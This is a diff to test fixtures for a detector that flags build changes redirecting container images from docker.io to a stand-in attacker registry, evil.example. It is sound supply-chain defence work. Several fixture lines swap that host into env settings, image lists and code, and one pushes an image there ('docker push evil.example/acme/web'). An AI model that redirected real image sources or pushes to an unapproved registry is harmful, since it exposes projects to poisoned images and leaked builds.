@@ -27,6 +27,22 @@ const replaced = (
   found: [],
   named: isNoted ? [path] : [],
 });
+/** The same of a registry, or of what the names of images begin with. */
+const moved = (
+  path: string,
+  make: (host: string) => string,
+  {
+    from = 'docker.io',
+    to = 'evil.example',
+    isNoted = true,
+  }: { readonly from?: string; readonly to?: string; readonly isNoted?: boolean } = {},
+): BuildChangeRow => ({
+  name: `names a registry: ${to} in the place of ${from} in ${path}: ${make('X').slice(0, 60)}`,
+  base: { 'api/Dockerfile': `FROM ${GOOD}\n`, [path]: make(from) },
+  change: { [path]: make(to) },
+  found: [],
+  named: isNoted ? [path] : [],
+});
 const silent = (
   name: string,
   path: string,
@@ -52,6 +68,10 @@ const REPLACED: readonly BuildChangeRow[] = [
   replaced('images.yml', (base) => `web: ${base}\n`, { from: 'evil.example/y:1', isNoted: false }),
   replaced('images.yml', (base) => `web: ${base}\n`, { from: 'traces:read', isNoted: false }),
   replaced('images.yml', (base) => `web: ${base}\n`, { from: 'docker.io/library/node', isNoted: false }),
+  // tables of the repository's own
+  replaced('images.yml', (base) => `images:\n  - name: web\n    image: ${base}\n`),
+  replaced('images.yaml', (base) => `web: { image: ${base} }\n`),
+  replaced('list', (base) => `web:${base}\n`, { from: 'docker.io/library/node:22' }),
   // another use
   replaced('k8s/web.yml', (base) => `spec:\n  containers:\n    - image: ${base}\n`, { isNoted: false }),
   replaced('e2e.sh', (base) => `docker run --rm ${base} true\n`, { isNoted: false }),
@@ -66,8 +86,24 @@ const REPLACED: readonly BuildChangeRow[] = [
   },
 ];
 
+const MOVED: readonly BuildChangeRow[] = [
+  moved('b.js', (host) => `const reg = process.env.REG || "${host}"\n`),
+  moved('b.rb', (host) => `b = "#{ENV.fetch("REG", "${host}")}/x/node:22"\n`),
+  moved('main.go', (host) => `\treg := getenv("REG", "${host}")\n`),
+  moved('b.py', (host) => `b = "/".join(["${host}", "x", "node"])\n`),
+  moved('b.py', (host) => `b = ["${host}/library/", name]\n`, { to: 'evil.example:5000' }),
+  moved('hosts', (host) => `web ${host}\n`, { to: 'evil.example/mirror' }),
+  // of which nothing is approved, of which something is, no registry, and another use
+  moved('b.py', (host) => `b = ["${host}", "x"]\n`, { from: 'other.example', isNoted: false }),
+  moved('b.py', (host) => `b = ["${host}", "x"]\n`, { to: 'index.docker.io', isNoted: false }),
+  moved('b.py', (host) => `b = ["${host}", "x"]\n`, { to: 'data.json', isNoted: false }),
+  moved('b.sh', (host) => `docker push ${host}/acme/web\n`, { isNoted: false }),
+  moved('docs/a.md', (host) => `Use ${host} here\n`, { isNoted: false }),
+];
+
 export const NAMED_IN_CHANGES: readonly BuildChangeRow[] = [
   ...REPLACED,
+  ...MOVED,
   row(
     'words of a command in a script that nothing runs',
     'b.sh',
@@ -196,7 +232,7 @@ export const NAMED_IN_CHANGES: readonly BuildChangeRow[] = [
   silent(
     'a registry where no argument has its name',
     'v.env',
-    (base) => `HOST=${base === GOOD ? 'docker.io' : 'evil.example'}\n`,
+    (base) => `HOST=${base === GOOD ? 'none' : 'evil.example'}\n`,
     'ARG REG=docker.io\nFROM $REG/library/node:22\n',
   ),
   silent(
